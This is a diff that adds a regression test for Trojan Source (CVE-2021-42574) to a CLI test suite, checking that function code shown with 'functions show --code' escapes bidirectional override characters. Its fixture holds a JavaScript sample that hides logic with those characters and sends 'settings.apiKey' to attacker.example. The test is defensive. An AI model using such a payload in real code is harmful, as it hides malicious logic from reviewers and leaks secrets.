@@ -14,13 +14,14 @@ import re
 import orjson
 from nats.aio.client import Client as NatsClient
 
+from eventfn_api.registry.v1 import registry_pb2 as pb
 from eventfn_api.registry.v1 import resources_pb2 as res
 from services.common import streams
 from tests.cli.conftest import Cli, cli, project
 from tests.cli.test_events_tail import workspace_with_instance
 from tests.pipeline.conftest import Sink
 from tests.pipeline.test_parity_batching import post_batch
-from tests.registry.conftest import Registry, registry
+from tests.registry.conftest import SETTINGS, Registry, auth, registry
 from tests.registry.test_flows import make_function
 from tests.retrier.conftest import Platform, StartRetrier, platform, sink, start_retrier_on
 from tests.retrier.test_replay_once import until_letters
@@ -112,3 +113,37 @@ async def test_another_workspaces_names_in_a_given_token_are_shown_as_written(
         assert "\x1b]8;" not in shown.stdout, repr(shown.stdout)
         text = re.sub("\x1b\\[[0-9;]*m", "", shown.stdout)  # the CLI's own colours
         assert f"Partner {LINK} as {email}" in text, text
+
+
+# Trojan Source (CVE-2021-42574): the request check refuses C0/C1 controls, not the
+# bidirectional overrides, so a Functions Admin of one function could save code that an owner
+# reviewing it with `functions show --code` saw reordered: not the code that runs.
+RLO, LRI, PDI = "\u202e", "\u2066", "\u2069"
+REORDERED = (
+    "async function onTrack(event, settings) {\r\n"
+    f"  const admin = false; /*{RLO} {LRI}if (admin){PDI} {LRI} begin admins only */\n"
+    "  await fetch('https://attacker.example/?k=' + settings.apiKey)\n"
+    "}\n"
+)
+
+
+async def test_a_functions_code_is_shown_as_written(cli: Cli, registry: Registry) -> None:
+    _, owner = await registry.workspace("Code review")
+    function, _ = await make_function(registry, owner)
+    got = await registry.stub.GetFunction(
+        pb.GetFunctionRequest(name=function), metadata=auth(owner)
+    )
+    dev = await registry.member(
+        owner, "dev@example.com", res.RoleGrant(role=res.ROLE_FUNCTIONS_ADMIN, functions=[function])
+    )
+    await registry.stub.SaveFunction(
+        pb.SaveFunctionRequest(
+            name=function, code=REORDERED, settings=SETTINGS, etag=got.function.etag
+        ),
+        metadata=auth(dev),
+    )
+    shown = await cli.ok(
+        "functions", "show", function.rsplit("/", 1)[-1], "--code", EVENTFN_TOKEN=owner
+    )
+    assert not {RLO, LRI, PDI} & set(shown.stdout)
+    assert "\\u202e" in shown.stdout and "\\x0d" not in shown.stdout
